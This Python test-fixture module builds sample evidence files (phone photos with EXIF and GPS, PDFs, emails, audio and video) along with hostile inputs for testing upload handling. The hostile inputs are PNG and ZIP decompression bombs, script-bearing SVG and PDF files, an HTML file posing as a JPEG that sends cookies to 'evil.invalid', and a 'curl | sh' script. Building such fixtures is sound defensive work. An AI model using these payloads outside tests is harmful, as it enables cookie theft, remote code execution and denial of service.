"""Sample evidence files made in code: ordinary ones as phones make them, and hostile ones.

Every function writes one file at ``path`` and returns that path. Audio and video come from
Debian's ffmpeg, which ``make test`` installs.
"""

from __future__ import annotations

import struct
import subprocess
import zipfile
import zlib
from collections.abc import Sequence
from datetime import datetime
from email.message import EmailMessage
from email.utils import format_datetime
from pathlib import Path

import pillow_heif
from PIL import Image

pillow_heif.register_heif_opener()

DEFAULT_EXIF_DATETIME = "2026:10:03 07:42:10"
DEFAULT_OFFSET = "+01:00"
DEFAULT_GPS = (51.507222, -0.1275)  # Trafalgar Square, London


# Photos and pictures -----------------------------------------------------------------------


def make_exif(
    *,
    exif_datetime: str | None = DEFAULT_EXIF_DATETIME,
    offset: str | None = DEFAULT_OFFSET,
    gps: tuple[float, float] | None = DEFAULT_GPS,
    orientation: int | None = 1,
    make: str | None = "Apple",
    model: str | None = "iPhone 13",
) -> Image.Exif:
    """EXIF as a phone writes it: make, model, orientation, capture time with offset, GPS."""
    exif = Image.Exif()
    if make is not None:
        exif[0x010F] = make
    if model is not None:
        exif[0x0110] = model
    if orientation is not None:
        exif[0x0112] = orientation
    if exif_datetime is not None:
        details = exif.get_ifd(0x8769)
        details[0x9003] = exif_datetime  # DateTimeOriginal
        details[0x9004] = exif_datetime  # DateTimeDigitized
        if offset is not None:
            details[0x9011] = offset  # OffsetTimeOriginal
    if gps is not None:
        latitude, longitude = gps
        location = exif.get_ifd(0x8825)
        location[1] = "N" if latitude >= 0 else "S"
        location[2] = _degrees_minutes_seconds(latitude)
        location[3] = "E" if longitude >= 0 else "W"
        location[4] = _degrees_minutes_seconds(longitude)
    return exif


def _degrees_minutes_seconds(value: float) -> tuple[float, float, float]:
    value = abs(value)
    degrees = int(value)
    minutes = int((value - degrees) * 60)
    seconds = round((value - degrees - minutes / 60) * 3600, 4)
    return float(degrees), float(minutes), seconds


def _picture(size: tuple[int, int]) -> Image.Image:
    """A two-colour picture, so an upright copy can be told from a rotated one."""
    picture = Image.new("RGB", size, (200, 40, 40))
    picture.paste((40, 40, 200), (0, 0, size[0] // 2, size[1] // 2))
    return picture


def make_jpeg(
    path: Path,
    *,
    size: tuple[int, int] = (4000, 3000),
    exif_datetime: str | None = DEFAULT_EXIF_DATETIME,
    offset: str | None = DEFAULT_OFFSET,
    gps: tuple[float, float] | None = DEFAULT_GPS,
    orientation: int | None = 1,
    make: str | None = "Apple",
    model: str | None = "iPhone 13",
    with_exif: bool = True,
) -> Path:
    """A phone photo; 12 megapixels unless a test asks for less."""
    exif = make_exif(
        exif_datetime=exif_datetime,
        offset=offset,
        gps=gps,
        orientation=orientation,
        make=make,
        model=model,
    )
    options = {"exif": exif} if with_exif else {}
    _picture(size).save(path, format="JPEG", quality=85, **options)
    return path


def make_png(
    path: Path,
    *,
    size: tuple[int, int] = (64, 48),
    exif: Image.Exif | None = None,
    exif_after_pixels: bool = False,
) -> Path:
    """A screenshot-like PNG, with no EXIF unless given.

    The PNG standard lets the eXIf chunk come after the pixel data; ``exif_after_pixels`` puts it
    there (Pillow itself writes it before).
    """
    if exif is not None and not exif_after_pixels:
        _picture(size).save(path, format="PNG", exif=exif)
        return path
    _picture(size).save(path, format="PNG")
    if exif is not None:
        png = path.read_bytes()
        end = png.rindex(b"IEND") - 4
        path.write_bytes(
            png[:end]
            + _png_chunk(b"eXIf", exif.tobytes().removeprefix(b"Exif\x00\x00"))
            + png[end:]
        )
    return path


def make_heic(
    path: Path,
    *,
    size: tuple[int, int] = (64, 48),
    exif_datetime: str | None = DEFAULT_EXIF_DATETIME,
    offset: str | None = DEFAULT_OFFSET,
    gps: tuple[float, float] | None = DEFAULT_GPS,
    make: str | None = "Apple",
    model: str | None = "iPhone 13",
) -> Path:
    """An iPhone-style HEIC photo with EXIF, encoded by pillow-heif."""
    exif = make_exif(exif_datetime=exif_datetime, offset=offset, gps=gps, make=make, model=model)
    _picture(size).save(path, format="HEIF", exif=exif, quality=50)
    return path


def make_webp(path: Path, *, size: tuple[int, int] = (64, 48)) -> Path:
    _picture(size).save(path, format="WEBP")
    return path


def make_gif(path: Path, *, size: tuple[int, int] = (64, 48)) -> Path:
    _picture(size).save(path, format="GIF")
    return path


# Documents, text and email -----------------------------------------------------------------


def make_pdf(
    path: Path,
    pages: int = 1,
    *,
    created: str | None = "D:20261012231100+01'00'",
    javascript: str | None = None,
) -> Path:
    """A small valid PDF written by hand; each page draws one rectangle."""
    path.write_bytes(_pdf_bytes(pages, created=created, javascript=javascript))
    return path


def _pdf_bytes(pages: int, *, created: str | None, javascript: str | None) -> bytes:
    first_page = 4
    page_numbers = list(range(first_page, first_page + pages))
    info_number = first_page + pages
    action_number = info_number + 1
    catalog = b"<< /Type /Catalog /Pages 2 0 R"
    if javascript is not None:
        catalog += b" /OpenAction %d 0 R" % action_number
    objects: dict[int, bytes] = {
        1: catalog + b" >>",
        2: b"<< /Type /Pages /Kids [%s] /Count %d >>"
        % (b" ".join(b"%d 0 R" % n for n in page_numbers), pages),
    }
    drawing = b"0.2 0.2 0.8 rg 72 600 200 100 re f"
    objects[3] = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(drawing), drawing)
    for number in page_numbers:
        objects[number] = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>"
    info = b"<< /Producer (Evidence Diary tests)"
    if created is not None:
        info += b" /CreationDate (%s)" % created.encode("latin-1")
    objects[info_number] = info + b" >>"
    if javascript is not None:
        objects[action_number] = b"<< /Type /Action /S /JavaScript /JS (%s) >>" % javascript.encode(
            "latin-1"
        )

    body = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    xref_at = len(body)
    size = max(objects) + 1
    body += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        body += b"%010d 00000 n \n" % offsets[number]
    body += b"trailer\n<< /Size %d /Root 1 0 R /Info %d 0 R >>\n" % (size, info_number)
    body += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(body)


def make_text(path: Path, text: str = "", *, encoding: str = "utf-8") -> Path:
    """A text export, such as text messages copied from a phone."""
    text = text or "2026-10-12 23:40 +447700900123: where are you\n2026-10-12 23:41: answer\n"
    path.write_bytes(text.encode(encoding))
    return path


def make_eml(
    path: Path,
    *,
    sender: str = "Someone <someone@example.invalid>",
    to: str = "me@example.invalid",
    subject: str = "You owe me",
    date: datetime | str | None = "Mon, 12 Oct 2026 23:11:00 +0100",
    body: str = "I'll be waiting outside your work tomorrow.\n",
    html: str | None = None,
    header_order: Sequence[str] = ("From", "To", "Subject", "Date"),
) -> Path:
    """An email saved as .eml; ``html`` adds an HTML alternative after the plain text."""
    message = EmailMessage()
    values = {
        "From": sender,
        "To": to,
        "Subject": subject,
        "Date": format_datetime(date) if isinstance(date, datetime) else date,
    }
    for name in header_order:
        if values.get(name) is not None:
            message[name] = values[name]
    message.set_content(body)
    if html is not None:
        message.add_alternative(html, subtype="html")
    path.write_bytes(message.as_bytes())
    return path


# Audio and video ---------------------------------------------------------------------------


def _ffmpeg(*arguments: str) -> None:
    # A fixed argument list for the test machine's own ffmpeg; no shell.
    subprocess.run(  # noqa: S603
        ["ffmpeg", "-hide_banner", "-loglevel", "error", "-nostdin", "-y", *arguments],  # noqa: S607
        check=True,
        timeout=60,
    )


def _tone(seconds: float) -> list[str]:
    return ["-f", "lavfi", "-i", f"sine=frequency=440:sample_rate=22050:duration={seconds}"]


def _creation(created: str | None) -> list[str]:
    return ["-metadata", f"creation_time={created}"] if created else []


def make_mp3(path: Path, *, seconds: float = 1.0) -> Path:
    _ffmpeg(*_tone(seconds), "-c:a", "libmp3lame", "-b:a", "32k", "-f", "mp3", str(path))
    return path


def make_m4a(path: Path, *, seconds: float = 1.0, created: str | None = None) -> Path:
    """A voicemail as iPhones save it: AAC in an MPEG-4 container with the M4A brand."""
    _ffmpeg(
        *_tone(seconds), "-c:a", "aac", "-b:a", "32k", *_creation(created), "-f", "ipod", str(path)
    )
    return path


def make_audio_only_mp4(path: Path, *, seconds: float = 1.0) -> Path:
    """A voice note as some Android recorders save it: sound only, in a plain MP4."""
    _ffmpeg(*_tone(seconds), "-c:a", "aac", "-b:a", "32k", "-f", "mp4", str(path))
    return path


def make_aac(path: Path, *, seconds: float = 1.0) -> Path:
    """Raw AAC in ADTS frames, as some Android recorders save it."""
    _ffmpeg(*_tone(seconds), "-c:a", "aac", "-b:a", "32k", "-f", "adts", str(path))
    return path


def make_wav(path: Path, *, seconds: float = 1.0) -> Path:
    _ffmpeg(*_tone(seconds), "-c:a", "pcm_s16le", "-f", "wav", str(path))
    return path


def make_ogg(path: Path, *, seconds: float = 1.0, codec: str = "libopus") -> Path:
    """A voice note in Ogg: Opus as WhatsApp sends it, or Vorbis with ``codec="libvorbis"``."""
    _ffmpeg(*_tone(seconds), "-c:a", codec, "-f", "ogg", str(path))
    return path


def _video(
    path: Path,
    container: str,
    *,
    seconds: float,
    size: tuple[int, int],
    created: str | None,
    location: str | None,
) -> Path:
    width, height = size
    _ffmpeg(
        "-f",
        "lavfi",
        "-i",
        f"testsrc=size={width}x{height}:rate=10:duration={seconds}",
        *_tone(seconds),
        "-shortest",
        "-c:v",
        "libx264",
        "-pix_fmt",
        "yuv420p",
        "-preset",
        "ultrafast",
        "-c:a",
        "aac",
        "-b:a",
        "32k",
        *_creation(created),
        *(["-metadata", f"location={location}"] if location else []),
        "-f",
        container,
        str(path),
    )
    return path


def make_mp4(
    path: Path,
    *,
    seconds: float = 1.0,
    size: tuple[int, int] = (64, 48),
    created: str | None = None,
    location: str | None = None,
) -> Path:
    """An Android-style MP4; ``location`` is ISO 6709, e.g. "+51.5072-000.1275/"."""
    return _video(path, "mp4", seconds=seconds, size=size, created=created, location=location)


def make_mov(
    path: Path,
    *,
    seconds: float = 1.0,
    size: tuple[int, int] = (64, 48),
    created: str | None = None,
    location: str | None = None,
) -> Path:
    """An iPhone-style QuickTime movie."""
    return _video(path, "mov", seconds=seconds, size=size, created=created, location=location)


# Hostile and damaged files -----------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def make_png_bomb(path: Path, *, side: int = 30_000) -> Path:
    """A PNG that declares side×side pixels (900 megapixels) yet is about 100 KB on disk."""
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)  # 1-bit greyscale
    row = b"\x00" * (1 + (side + 7) // 8)  # filter byte, then the packed pixels
    compressor = zlib.compressobj(9)
    pixels = bytearray()
    rows_per_block = 1000
    for start in range(0, side, rows_per_block):
        pixels += compressor.compress(row * min(rows_per_block, side - start))
    pixels += compressor.flush()
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", bytes(pixels))
        + _png_chunk(b"IEND", b"")
    )
    return path


def make_html_renamed_jpg(path: Path) -> Path:
    """A web page with a script, given a photo's name."""
    path.write_text(
        "<!DOCTYPE html>\n<html><head><title>photo</title></head>"
        "<body><script>fetch('https://evil.invalid/?c=' + document.cookie)</script></body></html>\n"
    )
    return path


def make_svg(path: Path) -> Path:
    """An SVG picture that runs script when opened in a browser."""
    path.write_text(
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="48" onload="alert(1)">'
        '<rect width="64" height="48" fill="red"/><script>alert(document.domain)</script></svg>\n'
    )
    return path


def make_shell_script(path: Path) -> Path:
    path.write_text("#!/bin/sh\ncurl -s https://evil.invalid/x | sh\n")
    return path


def make_zip_bomb_docx(path: Path, *, megabytes: int = 64) -> Path:
    """A Word-looking ZIP whose document inflates from ~60 KB to ``megabytes`` of zeros."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as bundle:
        bundle.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
            'package/2006/content-types"/>',
        )
        with bundle.open("word/document.xml", "w", force_zip64=True) as document:
            block = b"\x00" * (1024 * 1024)
            for _ in range(megabytes):
                document.write(block)
    return path


def make_windows_exe(path: Path) -> Path:
    """A Windows program's first bytes: an MZ header pointing at a PE header for x86."""
    dos_header = bytearray(64)
    dos_header[0:2] = b"MZ"
    struct.pack_into("<I", dos_header, 0x3C, 0x80)  # where the PE header starts
    stub = b"This program cannot be run in DOS mode.\r\r\n$".ljust(0x80 - 64, b"\x00")
    coff = struct.pack("<HHIIIHH", 0x014C, 1, 0, 0, 0, 0xE0, 0x0102)
    optional = struct.pack("<H", 0x010B).ljust(0xE0, b"\x00")
    section = b".text\x00\x00\x00".ljust(40, b"\x00")
    path.write_bytes(bytes(dos_header) + stub + b"PE\x00\x00" + coff + optional + section)
    return path


def make_pdf_with_javascript(path: Path) -> Path:
    """A PDF that asks the reader to run JavaScript when it is opened."""
    return make_pdf(path, javascript="app.alert('You cannot hide from me');")


def make_truncated_jpeg(path: Path, *, size: tuple[int, int] = (64, 48)) -> Path:
    """A phone photo cut off half-way, as a failed transfer leaves it."""
    make_jpeg(path, size=size)
    whole = path.read_bytes()
    # Cut inside the picture data, so the headers and EXIF survive as they do in real cases.
    start_of_scan = whole.index(b"\xff\xda")
    path.write_bytes(whole[: start_of_scan + (len(whole) - start_of_scan) // 2])
    return path


def make_empty(path: Path) -> Path:
    path.write_bytes(b"")
    return path
